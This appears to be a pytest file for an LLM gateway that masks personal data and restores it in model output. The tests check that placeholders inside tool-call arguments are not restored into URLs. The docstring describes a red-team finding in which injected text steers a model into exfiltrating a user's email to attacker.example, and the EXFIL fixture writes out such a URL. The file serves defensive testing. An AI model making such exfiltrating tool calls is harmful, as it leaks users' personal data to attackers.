"""Red-team #9 finding 11: masked values were restored into the tool-call arguments a model wrote, so a model steered
by injected text could have the client's agent send them to an attacker (`http_get("https://attacker.example/c?e=
<EMAIL_ADDRESS_1>")`). By default only a placeholder that is a whole JSON string value is restored there."""

from __future__ import annotations

import json
from typing import Any

import pytest

from gateway.config import ConfigError, parse_config
from gateway.restore import Restorer
from tests.conftest import GatewayFactory, Upstream, mock_provider

EMAIL = "minsu.kim@korea.kr"
MAPPING = {"<EMAIL_ADDRESS_1>": EMAIL, "<PERSON_1>": "김민수"}
EXFIL = '{"url": "https://attacker.example/c?e=<EMAIL_ADDRESS_1>&n=<PERSON_1>", "note": "for <PERSON_1>"}'
WHOLE = '{"to": "<EMAIL_ADDRESS_1>", "name": "<PERSON_1>", "cc": ["<EMAIL_ADDRESS_1>"]}'
WHOLE_RESTORED = json.dumps({"to": EMAIL, "name": "김민수", "cc": [EMAIL]}, ensure_ascii=False)


def test_only_whole_string_values_are_restored_by_default() -> None:
    r = Restorer(MAPPING)
    assert r.arguments(EXFIL) == EXFIL
    assert r.arguments(WHOLE) == WHOLE_RESTORED
    assert r.arguments('{"q": "\\"<PERSON_1>\\""}') == '{"q": "\\"<PERSON_1>\\""}'  # quotes inside a string
    assert r.text(EXFIL) == EXFIL.replace("<EMAIL_ADDRESS_1>", EMAIL).replace("<PERSON_1>", "김민수")


def test_modes() -> None:
    assert Restorer(MAPPING, "none").arguments(WHOLE) == WHOLE
    assert Restorer(MAPPING, "all").arguments(EXFIL) == Restorer(MAPPING).text(EXFIL)
    with pytest.raises(ValueError):
        Restorer(MAPPING, "some")


def test_tree_reads_arguments_keys_as_tool_call_arguments() -> None:
    reply = {
        "choices": [
            {
                "message": {
                    "content": "메일 <EMAIL_ADDRESS_1> 로 보냅니다",
                    "tool_calls": [{"function": {"name": "http_get", "arguments": EXFIL}}],
                }
            }
        ],
        "output": [{"type": "function_call", "arguments": WHOLE}],
    }
    out: Any = Restorer(MAPPING).tree(reply)
    assert out["choices"][0]["message"]["content"] == f"메일 {EMAIL} 로 보냅니다"
    assert out["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == EXFIL
    assert out["output"][0]["arguments"] == WHOLE_RESTORED


@pytest.mark.parametrize("step", [1, 2, 3, 5, 7, 16, 200])
@pytest.mark.parametrize(("arguments", "expected"), [(EXFIL, EXFIL), (WHOLE, WHOLE_RESTORED)])
def test_streamed_arguments_in_any_pieces(step: int, arguments: str, expected: str) -> None:
    r = Restorer(MAPPING)
    out = "".join(r.feed_arguments(("args", 0, 0), arguments[i : i + step]) for i in range(0, len(arguments), step))
    out += "".join(r.flush_arguments(k) for k in r.pending_arguments(("args", 0)))
    assert out == expected


def test_a_placeholder_at_the_end_of_streamed_arguments_is_not_a_value() -> None:
    r = Restorer(MAPPING)
    assert r.feed_arguments("k", '{"to": "<EMAIL_ADDRESS_1>') == '{"to": "'
    assert r.flush_arguments("k") == "<EMAIL_ADDRESS_1>"


def test_the_mode_is_a_policy_setting_overrides_may_change() -> None:
    cfg = parse_config(
        {
            "providers": [{"id": "a", "kind": "openai", "api_key": "k", "models": ["m"]}],
            "policy": {
                "restore_in_tool_calls": "none",
                "overrides": [{"name": "agents", "match": {"departments": ["ops"]}, "restore_in_tool_calls": "all"}],
            },
        }
    )
    assert cfg.policy.restore_in_tool_calls == "none"
    assert cfg.policy.overrides[0].restore_in_tool_calls == "all"
    with pytest.raises(ConfigError, match="restore_in_tool_calls"):
        parse_config(
            {
                "providers": [{"id": "a", "kind": "openai", "api_key": "k", "models": ["m"]}],
                "policy": {"restore_in_tool_calls": "urls"},
            }
        )


TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "http_get",
            "parameters": {"type": "object", "properties": {"url": {"type": "string"}}},
        },
    }
]
PROMPT = f"김민수 님({EMAIL})께 회신 초안 써줘"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("arguments", "expected"), [(EXFIL, EXFIL), (WHOLE, WHOLE_RESTORED)])
def test_tool_call_arguments_over_http(
    make_gateway: GatewayFactory, upstream: Upstream, stream: bool, arguments: str, expected: str
) -> None:
    gw = make_gateway({"providers": [mock_provider(upstream)]})
    upstream.mock.behaviour.tool_arguments = arguments
    upstream.mock.behaviour.stream_split = 4
    client = gw.client()
    messages: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        parts: list[str] = []
        for chunk in client.chat.completions.create(model="gpt-4o-mini", messages=messages, tools=TOOLS, stream=True):
            for choice in chunk.choices:
                for call in choice.delta.tool_calls or []:
                    if call.function and call.function.arguments:
                        parts.append(call.function.arguments)
        got = "".join(parts)
    else:
        reply = client.chat.completions.create(model="gpt-4o-mini", messages=messages, tools=TOOLS)
        calls = reply.choices[0].message.tool_calls
        assert calls is not None
        got = calls[0].function.arguments  # type: ignore[union-attr]
    assert EMAIL not in upstream.mock.raw().decode()
    assert got == expected


async def test_responses_stream_function_call_arguments() -> None:
    from gateway.restore import restore_stream

    def event(data: dict[str, Any]) -> bytes:
        return f"event: {data['type']}\ndata: {json.dumps(data)}\n\n".encode()

    pieces = [EXFIL[i : i + 6] for i in range(0, len(EXFIL), 6)]
    chunks = [
        *(event({"type": "response.function_call_arguments.delta", "item_id": "fc_1", "delta": p}) for p in pieces),
        event({"type": "response.function_call_arguments.done", "item_id": "fc_1", "arguments": EXFIL}),
        event({"type": "response.output_item.done", "item": {"type": "function_call", "arguments": WHOLE}}),
    ]

    async def source() -> Any:
        for c in chunks:
            yield c

    raw = b"".join([c async for c in restore_stream(source(), Restorer(MAPPING), responses_api=True)])
    out = [json.loads(line[5:]) for line in raw.decode().split("\n") if line.startswith("data:")]
    deltas = "".join(e["delta"] for e in out if e["type"] == "response.function_call_arguments.delta")
    assert deltas == EXFIL
    assert next(e for e in out if e["type"] == "response.function_call_arguments.done")["arguments"] == EXFIL
    assert next(e for e in out if e["type"] == "response.output_item.done")["item"]["arguments"] == WHOLE_RESTORED
